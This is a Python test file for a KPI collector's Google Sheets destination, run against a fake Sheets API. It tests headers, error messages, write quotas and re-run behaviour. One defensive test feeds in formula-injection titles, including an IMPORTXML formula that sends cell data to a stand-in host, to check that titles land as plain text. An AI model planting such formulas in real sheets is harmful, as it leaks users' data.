"""`google_sheets` against the local Sheets API (its fake): header of titles, new columns,
a missing spreadsheet.
"""

from __future__ import annotations

import json
from datetime import timedelta
from pathlib import Path

import pytest

from kpi_collector.destinations import (
    GoogleSheets,
)
from kpi_collector.destinations.google_sheets.fake import FakeSheets, service_account
from tests.destinations import DAY, pipeline

pytestmark = pytest.mark.usefixtures("fast_delivery_retries")


def test_sheets_header_of_titles_and_new_columns(tmp_path: Path) -> None:
    with FakeSheets.serve() as sheets:
        key = sheets.add_spreadsheet()
        creds = tmp_path / "sa.json"
        creds.write_text(json.dumps(service_account(sheets.token_uri)))
        state = {"stars": 10.0}
        destination = GoogleSheets(
            spreadsheet=f"https://docs.google.com/spreadsheets/d/{key}/edit",
            credentials=str(creds),
            api_url=sheets.url,
            every="day",
        )
        p = pipeline(tmp_path, destination, state)
        assert p.process(now=DAY).exit_code == 0
        state.update(stars=12.0, forks=1.0)
        assert p.process(now=DAY + timedelta(hours=1)).exit_code == 0
        del state["forks"]
        assert p.process(now=DAY + timedelta(days=1)).exit_code == 0
        assert sheets.values(key, "KPIs") == [
            ["Period", "Date", "GitHub Stargazers", "github.forks"],
            ["2026-11-30", "2026-11-30", 12.0, 1.0],
            ["2026-12-01", "2026-12-01", 12.0],
        ]


def test_sheets_missing_spreadsheet_is_terminal(tmp_path: Path) -> None:
    with FakeSheets.serve() as sheets:
        destination = GoogleSheets(
            spreadsheet="1NoSuchSpreadsheetKey",
            api_url=sheets.url,
            every="day",
            credentials=json.dumps(service_account(sheets.token_uri)),
        )
        result = pipeline(tmp_path, destination, {"stars": 1.0}).process(now=DAY)
        assert "HTTP 404" in result.delivery_errors["google_sheets"]
        assert "check `spreadsheet`" in result.delivery_errors["google_sheets"]


QUOTA = (
    "Quota exceeded for quota metric 'Write requests' and limit 'Write requests per minute "
    "per user' of service 'sheets.googleapis.com' for consumer 'project_number:1234'."
)


@pytest.mark.parametrize(
    ("fault", "expected", "transient", "refused"),
    [
        # issue 18 §4: a 429 and a 503 were told "the Sheets API refused the request"
        (
            (429, QUOTA, "RESOURCE_EXHAUSTED"),
            f"HTTP 429 ({QUOTA}): rate limited by the Sheets API (its per-minute quota)",
            True,
            False,
        ),
        (
            (503, "The service is currently unavailable.", "UNAVAILABLE"),
            "HTTP 503 (The service is currently unavailable.): Google Sheets had a server error",
            True,
            False,
        ),
        (
            (
                400,
                "This action would increase the number of cells in the workbook above the "
                "limit of 10000000 cells.",
                "INVALID_ARGUMENT",
            ),
            "above the limit of 10000000 cells.): the Sheets API refused the request",
            False,
            True,
        ),
    ],
)
def test_sheets_errors_name_their_cause(
    tmp_path: Path,
    fault: tuple[int, str, str],
    expected: str,
    transient: bool,
    refused: bool,
) -> None:
    with FakeSheets.serve() as sheets:
        key = sheets.add_spreadsheet()
        destination = GoogleSheets(
            spreadsheet=key,
            api_url=sheets.url,
            every="day",
            retries=0,
            credentials=json.dumps(service_account(sheets.token_uri)),
        )
        sheets.faults.append(fault)
        p = pipeline(tmp_path, destination, {"stars": 1.0})
        result = p.process(now=DAY)
    message = result.delivery_errors["google_sheets"]
    assert expected in message
    assert ("stays pending" in message) is transient
    assert ("refused for good" in message) is refused
    (record,) = p.delivery_engine().records()
    assert record.status == ("failed" if refused else "pending")


@pytest.mark.parametrize("layout", ["wide", "long"])
def test_titles_that_look_like_formulas_land_as_text(tmp_path: Path, layout: str) -> None:
    """A title or KPI id starting with `=`, `+`, `-` or `@` must land in its cell as the text
    it is, never as a formula the sheet runs (`=IMPORTXML(...)` sending the sheet's data out):
    every write is RAW, which the Sheets API stores as sent (its fake parses USER_ENTERED
    writes as typed, as Sheets does)."""
    from kpi_collector import Pipeline
    from kpi_collector.destinations import Store
    from kpi_collector.destinations.google_sheets.fake import Formula
    from kpi_collector.sources.python import Function

    titles = ['=IMPORTXML("http://x.example/?"&A1,"//a")', "+1+1", "-2+3", "@SUM(A1)"]
    with FakeSheets.serve() as sheets:
        key = sheets.add_spreadsheet()
        destination = GoogleSheets(
            spreadsheet=key,
            credentials=json.dumps(service_account(sheets.token_uri)),
            api_url=sheets.url,
            every="day",
            layout=layout,  # type: ignore[arg-type]
        )
        p = Pipeline(
            sources=[
                Function(lambda: {f"m{i}": -float(i) for i in range(len(titles))}, name="app"),
                Function(lambda: {"x": 1.0}, name="=cmd"),
            ],
            destinations=[Store(f"sqlite:///{tmp_path / 'kpi.db'}"), destination],
            kpis={f"app.m{i}": {"title": t} for i, t in enumerate(titles)},
            base_dir=tmp_path,
        )
        assert p.process(now=DAY).delivery_errors == {}
        cells = [cell for row in sheets.values(key, "KPIs") for cell in row]
    assert not [c for c in cells if isinstance(c, Formula)]
    assert set(titles) | {"=cmd.x"} <= set(cells) and -3.0 in cells


def test_a_rerun_of_many_kpis_stays_within_the_write_quota(tmp_path: Path) -> None:
    """`layout: long` updated a re-run period's rows one request each: 70 KPIs were 70 write
    requests, over Sheets' 60 a minute per user, and every retry began again from the first
    row, so the period's update never went through (and with it every later period). Rows
    of one delivery are written in one request (values:batchUpdate) and appended in one."""
    with FakeSheets.serve() as sheets:
        sheets.write_limit = (8, 60.0)  # a small quota: 12 KPIs play 70
        key = sheets.add_spreadsheet()
        destination = GoogleSheets(
            spreadsheet=key,
            credentials=json.dumps(service_account(sheets.token_uri)),
            api_url=sheets.url,
            every="day",
            layout="long",
        )
        state = {f"m{i}": float(i) for i in range(12)}
        p = pipeline(tmp_path, destination, state)
        assert p.process(now=DAY).delivery_errors == {}
        state.update({f"m{i}": float(100 + i) for i in range(12)})
        assert p.process(now=DAY + timedelta(hours=1)).delivery_errors == {}
        rows = sheets.values(key, "KPIs")[1:]
    assert sorted((r[2], r[4]) for r in rows) == sorted(
        (f"github.m{i}", float(100 + i)) for i in range(12)
    )
    assert sheets.writes <= 4


@pytest.mark.parametrize("on", ["/values/", "values:batchUpdate", ":append"])
@pytest.mark.parametrize("layout", ["wide", "long"])
def test_an_error_object_in_a_200_answer_is_no_success(
    tmp_path: Path, on: str, layout: str
) -> None:
    """Google's error object passed on with a 200 was read as an answer: a read of the sheet
    as an empty sheet (its header written again over the first row and the period's rows
    appended a second time), a write as done. Every answer must be the one asked for; an
    error object is that error (a 500 retried) and the period keeps one row per key."""
    with FakeSheets.serve() as sheets:
        key = sheets.add_spreadsheet()
        destination = GoogleSheets(
            spreadsheet=key,
            credentials=json.dumps(service_account(sheets.token_uri)),
            api_url=sheets.url,
            every="day",
            layout=layout,  # type: ignore[arg-type]
        )
        state = {"stars": 1.0}
        p = pipeline(tmp_path, destination, state)
        fault = (200, "Internal error encountered.", "INTERNAL", on)
        if on == ":append":  # the first run appends the period's row(s)
            sheets.faults.append(fault)
        assert p.process(now=DAY).delivery_errors == {}
        assert sheets.values(key, "KPIs")[1:] != []  # an append taken as done wrote nothing
        state.update(stars=2.0, forks=3.0)  # an update of the row and, long, a new row
        if on != ":append":
            sheets.faults.append(fault)
        assert p.process(now=DAY + timedelta(hours=1)).delivery_errors == {}
        assert not sheets.faults
        rows = sheets.values(key, "KPIs")
    if layout == "wide":
        assert rows == [
            ["Period", "Date", "GitHub Stargazers", "github.forks"],
            ["2026-11-30", "2026-11-30", 2.0, 3.0],
        ]
    else:
        assert sorted(rows[1:]) == [
            ["2026-11-30", "2026-11-30", "github.forks", "github.forks", 3.0],
            ["2026-11-30", "2026-11-30", "github.stars", "GitHub Stargazers", 2.0],
        ]


@pytest.mark.parametrize("layout", ["wide", "long"])
def test_a_rerun_leaves_the_cells_of_other_columns_as_they_are(tmp_path: Path, layout: str) -> None:
    """A re-run of a period wrote its row back whole, as read: a column the team added (a
    formula per row, a note) read as the formula's result, and the write replaced the
    formula with that number for good (the period's row no longer computed). A re-run
    writes the row's own cells alone; every other cell keeps what it holds."""
    from kpi_collector.destinations.google_sheets.fake import Formula

    with FakeSheets.serve() as sheets:
        key = sheets.add_spreadsheet()
        destination = GoogleSheets(
            spreadsheet=key,
            credentials=json.dumps(service_account(sheets.token_uri)),
            api_url=sheets.url,
            every="day",
            layout=layout,  # type: ignore[arg-type]
        )
        state = {"stars": 10.0, "forks": 2.0}
        p = pipeline(tmp_path, destination, state)
        assert p.process(now=DAY).delivery_errors == {}
        rows = sheets.values(key, "KPIs")
        # the team's columns after the destination's: a formula per row, and a note
        rows[0] += ["Ratio", "Note"]
        for number, row in enumerate(rows[1:], start=2):
            row += [Formula(f"=C{number}/D{number}", result=5.0), "checked"]
        state.update(stars=12.0, forks=3.0)
        assert p.process(now=DAY + timedelta(hours=1)).delivery_errors == {}
        rows = sheets.values(key, "KPIs")
    added = [row[-2:] for row in rows[1:]]
    assert added and all(isinstance(cell, Formula) for cell, _ in added), rows
    assert [note for _, note in added] == ["checked"] * len(added)
    if layout == "wide":
        assert rows[1][:4] == ["2026-11-30", "2026-11-30", 12.0, 3.0]
    else:
        assert sorted(row[2::2][:2] for row in rows[1:]) == [
            ["github.forks", 3.0],
            ["github.stars", 12.0],
        ]
